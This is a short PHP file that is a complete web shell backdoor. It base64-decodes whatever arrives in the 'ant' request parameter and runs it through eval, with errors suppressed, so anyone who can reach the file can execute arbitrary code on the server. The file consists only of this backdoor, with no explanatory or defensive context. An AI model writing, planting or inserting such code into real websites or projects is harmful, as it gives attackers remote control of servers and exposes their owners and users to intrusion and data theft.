<?php
function ant($p) { $q = $p; @eval(base64_decode($q)); }
ant(@$_REQUEST['ant']);
